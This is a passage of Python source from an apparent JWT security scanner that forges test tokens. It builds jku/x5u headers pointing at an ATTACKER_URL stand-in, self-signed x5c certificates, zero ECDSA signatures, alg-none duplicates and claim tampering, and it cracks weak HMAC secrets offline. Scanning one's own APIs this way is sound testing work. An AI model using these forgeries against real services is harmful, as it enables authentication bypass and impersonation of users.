        for member, path in (("jku", "jwks.json"), ("x5u", "cert.pem")):
            url = self.callback_url or f"{ATTACKER_URL}/{path}"
            header = encode_header(self.header_with(alg=asymmetric, kid=ATTACKER_KID, **{member: url}))
            self.add(f"{member}-attacker-url", _signed(header, t.payload_segment, signer))
        header = encode_header(self.header_with(
            alg=asymmetric, kid=ATTACKER_KID, x5c=[attacker_certificate(asymmetric)]))
        self.add("x5c-self-signed-cert", _signed(header, t.payload_segment, signer))

    def ecdsa(self) -> None:
        t = self.token
        spec = ALGORITHMS.get(t.alg or "")
        if spec is None or spec.family != "ECDSA":
            return
        self.add("ecdsa-zero-signature",
                 _token(t.header_segment, t.payload_segment, bytes(2 * spec.coordinate_size)))
        self.add("ecdsa-zero-signature-der",
                 _token(t.header_segment, t.payload_segment, encode_dss_signature(0, 0)))

    def weak_secret(self, candidates: Iterable[bytes] | None) -> None:
        t = self.token
        alg = t.alg or ""
        if ALGORITHMS.get(alg) is None or ALGORITHMS[alg].kty != "oct":
            return
        secret = crack_hmac_secret(t.signing_input, t.signature, alg, candidates)
        if secret is None:
            return
        found = SigningKey.from_secret(secret)
        if self.signing is None:
            self.signing = found
            note = (f"the HMAC secret ({len(secret)} bytes) was found in the weak-secret list; "
                    "attacks that need a valid signature were signed with it")
            for spec in CATALOGUE.values():
                if spec.requires == "signing-key":
                    self.notes[spec.id] = "signed with the cracked weak secret"
        else:
            note = f"the HMAC secret ({len(secret)} bytes) is in the weak-secret list"
        token = self.sign_with_key(t.header, self.fresh_claims(jwtwarden_scan="weak-secret-forged-token"))
        self.add("weak-secret-forged-token", token, note)

    def needing_key(self) -> None:
        if self.signing is None:
            return
        t = self.token
        now = int(self.now)
        sign = self.sign_with_key
        header = dict(t.header)
        self.add("exp-in-past", sign(header, self.fresh_claims(iat=now - 7200, exp=now - 3600)))
        self.add("exp-missing", sign(header, self.fresh_claims(exp=None)))
        self.add("exp-as-string", sign(header, self.fresh_claims(exp="9999999999")))
        self.add("nbf-in-future", sign(header, self.fresh_claims(nbf=now + 3600, exp=now + 4500)))
        if "iss" in t.payload:
            self.add("iss-foreign", sign(header, self.fresh_claims(iss=f"{ATTACKER_URL}/issuer")))
        if "aud" in t.payload:
            self.add("aud-foreign", sign(header, self.fresh_claims(aud="jwtwarden-scan-other-audience")))
        self.add("crit-unknown-extension", sign(
            self.header_with(crit=["jwtwarden-scan"], **{"jwtwarden-scan": True}),
            self.fresh_claims()))
        self.add("b64-false-header", sign(self.header_with(b64=False, crit=["b64"]), self.fresh_claims()))
        alg = t.alg or ""
        compressed = zlib.compress(dumps(self.fresh_claims()), 9)[2:-4]  # raw DEFLATE (RFC 1951)
        header_segment = encode_header(self.header_with(zip="DEF"))
        self.add("zip-deflate-payload", _signed(
            header_segment, b64url_encode(compressed), self.signing.signer(alg)))
        header_text = dumps(header).decode("ascii")
        self.add("duplicate-member-header-signed", sign(
            f'{header_text[:-1]},"alg":{json.dumps(alg)}}}', self.fresh_claims()))
        claims_text = dumps(self.fresh_claims(sub=None)).decode("ascii")
        sub = t.payload.get("sub", "user")
        self.add("duplicate-member-payload-signed", sign(
            header, f'{claims_text[:-1]},"sub":{json.dumps(sub)},"sub":"jwtwarden-scan-other-user"}}'))
        self.add("oversized-token-signed", sign(header, self.fresh_claims(jwtwarden_scan_padding="A" * 10240)))

    def parsing(self) -> None:
        t = self.token
        header_text = dumps(dict(t.header)).decode("ascii")
        self.add("duplicate-member-alg-none",
                 _token(_json_segment(f'{header_text[:-1]},"alg":"none"}}'), t.payload_segment, ""))
        padded_sig = _pad(t.signature_segment)
        if padded_sig is not None:
            self.add("padded-base64-signature", _token(t.header_segment, t.payload_segment, padded_sig))
        padded_payload = _pad(t.payload_segment)
        if padded_payload is not None:
            self.add("padded-base64-payload", _token(t.header_segment, padded_payload, t.signature_segment))
        big = dict(t.payload) | {"jwtwarden_scan_padding": "A" * 10240}
        self.add("oversized-token", _token(t.header_segment, b64url_encode(dumps(big)), t.signature_segment))


def derive_attacks(
    token: str,
    *,
    public_key: PublicKeySource | None = None,
    signing_key: SigningKeySource | None = None,
    other_token: str | None = None,
    callback_url: str | None = None,
    weak_secret_candidates: Iterable[bytes] | None = None,
    now: float | None = None,
) -> list[AttackCase]:
    """Every attack case that can be derived from ``token`` and what else is known.

    - ``public_key``: the target's public key(s) (see :data:`~jwtwarden.scan.keys.PublicKeySource`);
      enables the key-confusion cases. With several keys, the one named by the token's
      ``kid`` is used, else the first that fits its ``alg``.
    - ``signing_key``: the key that signed ``token`` (testing your own API); it must verify
      ``token``'s signature (:class:`BadScanKey` otherwise). Enables the validly-signed cases.
    - ``other_token``: a second genuine token, for ``signature-from-other-token``.
    - ``callback_url``: put in ``jku``/``x5u`` instead of an unresolvable attacker URL.
    - ``weak_secret_candidates``: the secrets tried offline on HS* tokens (default
      :func:`~jwtwarden.scan.weak_secrets.weak_secrets`).
    - ``now``: Unix time for the time-based claims (default: the system clock).

    Raises :class:`BadScanToken` when a token is not a well-formed signed JWT. The result
    is in catalogue order and holds each id at most once (about 40 to 60 cases).
    """
    parsed = parse_token(token)
    other = parse_token(other_token) if other_token is not None else None
    public: PublicKeyInfo | None = None
    if public_key is not None:
        public = pick_public_key(load_public_keys(public_key), parsed.kid, parsed.alg)
    signing: SigningKey | None = None
    if signing_key is not None:
        signing = load_signing_key(signing_key)
        alg = parsed.alg or ""
        signing.signer(alg)  # raises BadScanKey when the key cannot do alg at all
        if not signing.verifies(alg, parsed.signing_input, parsed.signature):
            raise BadScanKey("the signing key does not verify the token's signature")
    if callback_url is not None and not callback_url.startswith(("http://", "https://")):
        raise ValueError("callback_url must be an http(s) URL")
    forge = _Forge(parsed, time.time() if now is None else float(now), public, signing, other,
                   callback_url)
    forge.alg_none()
    spec = ALGORITHMS.get(parsed.alg or "")
    if public is not None and spec is not None and spec.kty != "oct":
        forge.key_confusion()
    forge.weak_secret(weak_secret_candidates)  # may make the signing key known
    forge.signatures()
    forge.claims_tampering()
    forge.kid_injection()
    forge.key_headers()
    forge.ecdsa()
    forge.needing_key()
    forge.parsing()
    order = {attack_id: i for i, attack_id in enumerate(CATALOGUE)}
    return sorted(forge.cases, key=lambda case: order[case.id])


def select(cases: Iterable[AttackCase], patterns: Iterable[str]) -> list[AttackCase]:
    """The cases whose id or category matches one of the shell-style ``patterns``
    (``alg-none*``, ``key-headers``); all of them when ``patterns`` is empty."""
    patterns = tuple(patterns)
    if not patterns:
        return list(cases)
    return [c for c in cases
            if any(fnmatch.fnmatchcase(c.id, p) or fnmatch.fnmatchcase(c.category, p)
                   for p in patterns)]

